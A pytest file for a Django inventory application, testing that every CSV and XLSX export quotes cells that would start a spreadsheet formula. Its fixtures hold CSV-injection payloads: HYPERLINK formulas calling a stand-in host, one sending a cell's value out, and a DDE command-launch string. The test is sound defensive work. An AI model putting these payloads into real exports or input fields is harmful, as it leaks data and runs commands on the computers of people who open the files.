"""No export hands a spreadsheet a live formula (issue 15; OWASP CSV injection).

Text that users type (a user name at a failed sign-in, a lot number, a counterparty) reaches
every CSV and XLSX export through core.exports, which quotes text that would start a formula.
"""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import cell, csv_bytes, xlsx_bytes
from inventory.models import Balance, Lot, PolicySetting
from inventory.services.posting import Movement, receipt_post
from reports.services import report_request
from surplus import reference_data as surplus_reference
from tests.factories import PASSWORD

SIGN_IN_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
LOT_NUMBER = '=HYPERLINK("http://evil.example/lot","L")'
COUNTERPARTY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("-40", "-40"),  # a signed quantity written as text is a number, not a formula
        ("+3.5", "+3.5"),
        (-40, -40),
        (Decimal("-1.250"), Decimal("-1.250")),
        (date(2026, 1, 2), date(2026, 1, 2)),
        (None, ""),
        ({"name": ["a", "=b"]}, '{"name": ["a", "=b"]}'),
    ],
)
def test_a_cell_starting_a_formula_becomes_text_and_numbers_stay_numbers(value, expected):
    assert cell(value) == expected


def test_the_writers_quote_formulas_in_csv_and_xlsx():
    rows = [["=1+1", -5, "ok"]]
    text = csv_bytes(["a", "b", "c"], rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1+1", "-5", "ok"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c"], rows, sheet="S"))).active
    assert [c.data_type for c in sheet[2]] == ["s", "n", "s"]
    assert sheet["A2"].value == "'=1+1"


# --- Every export endpoint ----------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def planted(client, world, clerk, media):
    """A failed sign-in, a lot number and a counterparty, each typed as a formula."""
    client.post(reverse("login"), {"username": SIGN_IN_NAME, "password": PASSWORD})
    surplus_reference.load(PolicySetting=PolicySetting)
    lot = Lot.objects.create(
        ammunition_type=world.ball,
        manufacturer="Maker",
        lot_number=LOT_NUMBER,
        manufactured_on=date(2020, 1, 1),
        condition_id="A",
        expires_on=timezone.localdate() + timedelta(days=60),
    )
    receipt_post(
        depot=world.depot_a,
        lines=[Movement(lot.pk, world.sh1.pk, 100)],
        occurred_on=timezone.localdate(),
        posted_by=clerk,
        counterparty=COUNTERPARTY,
    )
    return lot


def _download(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200, response.content[:300]
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _report(client, user, kind, parameters, file_format) -> bytes:
    run = report_request(kind=kind, parameters=parameters, requested_by=user)
    run.refresh_from_db()
    assert run.status == "done", run.error
    return _download(client, f"/api/v1/reports/{run.pk}/download/", {"format": file_format})


def audit_web(client, lot, users, file_format):
    client.force_login(users["auditor"])
    return _download(client, reverse("audit:log_export")), [SIGN_IN_NAME]


def audit_api(client, lot, users, file_format):
    client.force_login(users["auditor"])
    return _download(client, "/api/v1/audit-log/export/"), [SIGN_IN_NAME]


def surplus_dashboard(client, lot, users, file_format):
    client.force_login(users["officer"])
    params = {"export": file_format, "table": "expiring"}
    return _download(client, reverse("surplus:dashboard"), params), [LOT_NUMBER]


def surplus_subject(client, lot, users, file_format):
    client.force_login(users["officer"])
    url = reverse("surplus:subject", args=[f"t{lot.ammunition_type_id}"])
    return _download(client, url, {"export": file_format, "table": "lots"}), [LOT_NUMBER]


def accounting_statement(client, lot, users, file_format):
    client.force_login(users["auditor"])
    today = timezone.localdate().isoformat()
    depot = Balance.objects.filter(lot=lot).values_list("depot_id", flat=True).get()
    parameters = {"depot": depot, "period_start": today, "period_end": today}
    body = _report(client, users["auditor"], "accounting_statement", parameters, file_format)
    return body, [LOT_NUMBER]


def stock_card(client, lot, users, file_format):
    client.force_login(users["auditor"])
    body = _report(client, users["auditor"], "stock_card", {"lot": lot.pk}, file_format)
    return body, [COUNTERPARTY]


EXPORTS = [
    (audit_web, "csv"),  # the audit log is exported as CSV only
    (audit_api, "csv"),
    *(
        (export, file_format)
        for export in (surplus_dashboard, surplus_subject, accounting_statement, stock_card)
        for file_format in ("csv", "xlsx")
    ),
]


def _cells(body: bytes, file_format: str) -> list:
    if file_format == "csv":
        return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


@pytest.mark.parametrize(
    ("export", "file_format"), EXPORTS, ids=[f"{e.__name__}-{f}" for e, f in EXPORTS]
)
def test_no_export_hands_out_a_formula(export, file_format, client, planted, auditor, officer):
    body, planted_texts = export(
        client, planted, {"auditor": auditor, "officer": officer}, file_format
    )
    cells = _cells(body, file_format)
    for text in planted_texts:
        assert "'" + text in cells, (text, cells)
    risky = [
        c
        for c in cells
        if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)
    ]
    assert risky == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
